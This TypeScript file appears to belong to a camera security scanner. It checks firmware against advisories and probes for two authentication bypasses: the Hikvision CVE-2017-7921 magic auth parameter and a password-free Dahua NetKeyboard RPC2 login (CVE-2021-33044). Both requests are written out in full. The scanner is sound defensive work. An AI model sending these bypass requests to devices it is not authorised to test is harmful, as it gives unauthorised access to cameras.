import { matchAdvisories } from "../firmware-match.js";
import { describeHead } from "../evidence.js";
import { httpProbe } from "../probes/http.js";
import type { Evidence } from "../types.js";
import { errorSaid, said } from "../said.js";
import { budgetSpentSaid, type Check, needsDevice, note, outcome } from "./check.js";

const knownVulnerable: Check = {
  id: "firmware.known-vulnerable",
  async run(ctx) {
    const device = ctx.device;
    if (!device)
      return needsDevice(
        ctx,
        said("Matching the firmware against advisories", "Đối chiếu firmware với các khuyến cáo"),
      );
    const { manufacturer, model, firmwareVersion } = device;
    if (!manufacturer || !model || !firmwareVersion)
      return outcome("unknown", [
        note(
          said(
            "the camera did not report manufacturer, model and firmware",
            "camera không cho biết hãng, kiểu máy và firmware",
          ),
        ),
      ]);
    const checked = ctx.data.advisories.length;
    const identity = note(
      said(
        `${manufacturer} ${model}, firmware ${firmwareVersion}; ${checked} advisories checked`,
        `${manufacturer} ${model}, firmware ${firmwareVersion}; đã đối chiếu ${checked} khuyến cáo`,
      ),
    );
    const matches = matchAdvisories(ctx.data, { manufacturer, model, firmwareVersion });
    const affected = matches.filter((match) => match.verdict === "affected");
    const describe = ({ advisory, verdict }: (typeof matches)[number]) =>
      note(
        said(
          `${advisory.ids.join(", ")}: ${advisory.summary} Source: ${advisory.source}.` +
            `${advisory.exploitedInTheWild ? " Known to be exploited in the wild." : ""}` +
            `${verdict === "undetermined" ? " The firmware text carries no build date; compare it with the advisory." : ""}`,
          `${advisory.ids.join(", ")}: ${advisory.summaryVi} Nguồn: ${advisory.source}.` +
            `${advisory.exploitedInTheWild ? " Đã bị khai thác trên thực tế." : ""}` +
            `${verdict === "undetermined" ? " Chuỗi firmware không có ngày build; hãy tự đối chiếu với khuyến cáo." : ""}`,
        ),
      );
    if (affected.length > 0) {
      const exploited = affected.some((match) => match.advisory.exploitedInTheWild);
      return outcome(
        "fail",
        [identity, ...affected.map(describe)],
        exploited ? "critical" : "high",
      );
    }
    if (matches.length > 0) return outcome("unknown", [identity, ...matches.map(describe)]);
    return outcome("pass", [identity]);
  },
};

/** base64("admin:11"), the published parameter of CVE-2017-7921. */
const HIKVISION_MAGIC = "YWRtaW46MTEK";

const hikvisionBypass: Check = {
  id: "vuln.hikvision-cve-2017-7921",
  async run(ctx) {
    const page = new URL("/System/deviceInfo", await ctx.webRootUrl());
    const url = `${page.href}?auth=${HIKVISION_MAGIC}`;
    try {
      const reply = await httpProbe(url, {
        timeoutMs: ctx.settings.probeTimeoutMs,
        maxBytes: 8192,
        signal: ctx.signal,
      });
      const body = reply.body.toString("utf8");
      const leaked = reply.status === 200 && /<firmwareVersion>[^<]+<\/firmwareVersion>/.test(body);
      const evidence = ctx.scrub.record("http:hikvision-bypass", {
        // Said, not shown as auth=...: it is no secret, and a redacted placeholder reads garbled.
        sent: said(
          `GET ${page.href} with the published auth parameter of CVE-2017-7921`,
          `GET ${page.href} kèm tham số auth đã công bố của CVE-2017-7921`,
        ),
        received: `${describeHead(`HTTP ${reply.status}`, { "content-type": reply.headers["content-type"] })}\n${leaked ? body : ""}`,
      });
      return outcome(leaked ? "fail" : "pass", [evidence]);
    } catch (error) {
      return outcome("unknown", [
        ctx.scrub.record("http:hikvision-bypass", {
          sent: said(
            `GET /System/deviceInfo on ${ctx.host}`,
            `GET /System/deviceInfo trên ${ctx.host}`,
          ),
          received: errorSaid(error),
        }),
      ]);
    }
  },
};

interface RpcReply {
  result?: unknown;
  session?: unknown;
  params?: unknown;
}

/**
 * CVE-2021-33044 (opt-in): a NetKeyboard login without a password. When it works a session
 * exists on the camera, so it is logged out at once.
 */
const dahuaBypass: Check = {
  id: "vuln.dahua-cve-2021-33044",
  async run(ctx) {
    const base = (await ctx.webRootUrl()).origin;
    const evidence: Evidence[] = [];
    const call = async (
      path: string,
      payload: object,
    ): Promise<{ status: number; reply: RpcReply | undefined }> => {
      const body = JSON.stringify(payload);
      const response = await httpProbe(`${base}${path}`, {
        method: "POST",
        body,
        headers: { "Content-Type": "application/json" },
        timeoutMs: ctx.settings.probeTimeoutMs,
        maxBytes: 8192,
        signal: ctx.signal,
      });
      let reply: RpcReply | undefined;
      try {
        reply = JSON.parse(response.body.toString("utf8")) as RpcReply;
      } catch {
        reply = undefined;
      }
      evidence.push(
        ctx.scrub.record("http:dahua-rpc", {
          sent: `POST ${path} ${body}`,
          received: `HTTP ${response.status} ${response.body.toString("utf8")}`,
        }),
      );
      return { status: response.status, reply };
    };
    try {
      const first = await call("/RPC2_Login", {
        method: "global.login",
        params: { userName: "admin", password: "", clientType: "Web3.0" },
        id: 1,
      });
      if (first.status !== 200 || !first.reply)
        return outcome("pass", [
          ...evidence,
          note(said("no Dahua RPC2 login endpoint", "không có điểm đăng nhập RPC2 của Dahua")),
        ]);
      // On a patched camera this is a failed login of admin: it spends the lockout budget.
      const attempt = await ctx.loginAttempt(
        () =>
          call("/RPC2_Login", {
            method: "global.login",
            params: {
              userName: "admin",
              password: "Not Used",
              clientType: "NetKeyboard",
              authorityType: "Default",
              passwordType: "Default",
            },
            id: 2,
            session: first.reply?.session,
          }),
        (reply) => reply.reply?.result !== true,
      );
      if (!attempt) return outcome("unknown", [...evidence, note(budgetSpentSaid(ctx))]);
      const second = attempt.result;
      if (second.reply?.result === true) {
        await call("/RPC2", {
          method: "global.logout",
          params: null,
          id: 3,
          session: second.reply.session,
        }).catch(() => undefined);
        return outcome("fail", [
          ...evidence,
          note(
            said(
              "a NetKeyboard login without a password was accepted (session logged out at once)",
              "camera chấp nhận đăng nhập NetKeyboard không cần mật khẩu (phiên đã được đăng xuất ngay)",
            ),
          ),
        ]);
      }
      return outcome("pass", evidence);
    } catch (error) {
      return outcome("unknown", [...evidence, note(errorSaid(error))]);
    }
  },
};

export const FIRMWARE_CHECKS: Check[] = [knownVulnerable, hikvisionBypass, dahuaBypass];
